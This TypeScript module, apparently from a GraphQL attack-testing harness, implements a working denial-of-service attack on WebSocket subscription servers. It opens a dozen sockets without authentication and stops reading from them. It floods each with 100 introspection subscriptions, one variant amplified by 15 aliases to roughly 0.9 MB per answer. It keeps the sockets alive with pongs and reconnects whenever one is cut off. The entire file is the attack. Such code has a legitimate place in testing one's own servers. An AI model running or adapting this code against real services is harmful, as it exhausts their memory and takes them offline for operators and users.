import { setTimeout } from 'node:timers/promises';
import type { WebSocket } from 'ws';
import { type Attack, createTally } from './attack.ts';
import { openSocket, subscribeInOneWrite } from './attacker-socket.ts';

const sockets = 12;
const subscribes = 100;
const pongEveryMs = 4000;
const againMs = 250;

const aliases = Array.from({ length: 15 }, (_, i) => `a${i}:types{...F}`).join(' ');
const fragment = 'fragment F on __Type{name description fields{name description type{name}}}';

/** Of 0.9 MB each, where it is answered. */
export const unreadAliases = createUnread(
  'H1: introspection of 15 aliases, unread',
  `{__schema{${aliases}}}${fragment}`,
);

/** What every tool may ask. */
export const unreadDescriptions = createUnread(
  'H1: introspection as allowed, unread',
  `{__schema{types{...F}}}${fragment}`,
);

/** Without a key, on sockets that read nothing and seem alive; one that is cut off comes again. */
function createUnread(name: string, query: string): Attack {
  return {
    name,
    async begin({ url }) {
      const open = new Set<WebSocket>();
      const stop = new AbortController();
      const tally = createTally();

      async function ask(): Promise<void> {
        const socket = await openSocket(url);
        if (stop.signal.aborted) return socket.terminate();
        tally.count('opened');
        open.add(socket);
        const closed = new Promise((resolve) => socket.once('close', resolve));
        socket.pause();
        subscribeInOneWrite(socket, query, subscribes);
        const timer = setInterval(() => socket.pong(() => {}), pongEveryMs);
        await closed;
        clearInterval(timer);
        open.delete(socket);
        tally.count('cut off');
      }

      async function keepAsking(): Promise<void> {
        while (!stop.signal.aborted) {
          await ask().catch(() => tally.count('refused'));
          await setTimeout(againMs, null, { signal: stop.signal }).catch(() => null);
        }
      }

      for (let i = 0; i < sockets; i++) void keepAsking();
      return () => {
        stop.abort();
        const said = `${tally}`;
        for (const socket of open) socket.terminate();
        return said;
      };
    },
  };
}
